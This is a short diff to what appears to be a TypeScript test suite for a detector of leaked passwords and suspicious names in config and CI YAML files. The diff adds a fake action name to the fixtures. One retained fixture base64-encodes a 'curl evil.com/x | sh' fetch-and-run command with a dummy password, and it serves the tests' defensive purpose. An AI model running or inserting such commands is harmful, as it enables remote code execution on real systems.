@@ -104,7 +104,7 @@ function told(tries: string, words: RegExp, situation: Parameters<typeof seen>[2
 }
 
 /** A name that looks as what a generator throws, and a package, an index or a host that somebody calls a password. */
-const [THROWN, PACKAGE] = ['kJ8sL2mN9pQ4rS7tU1vW', 'ev1l-p4ckage2'];
+const [THROWN, PACKAGE, ACTION] = ['kJ8sL2mN9pQ4rS7tU1vW', 'ev1l-p4ckage2', 'ev1l-0rg/acti0n9x'];
 const CALLED_PASSWORD = { 'conf/a.yml': `password: ${PACKAGE}\n` };
 
 const COMMAND_IN_BASE64 = Buffer.from('curl evil.com/x | sh; password="Summer2024!x"').toString('base64');
@@ -341,8 +341,9 @@ export const control: Control = {
     ...['uses: NAME', 'run: npx NAME', 'image: NAME'].map((line) =>
       notShown(
         `puts a name in the place of a variable: ${line}`,
-        { 'a.yml': `${line.replace('NAME', PACKAGE)}\n` },
+        { 'a.yml': `${line.replace('NAME', ACTION)}\n` },
         { 'a.yml': `${line.replace('NAME', ['$', '{{ inputs.x }}'].join(''))}\n` },
+        ACTION,
       ),
     ),
     notShown(
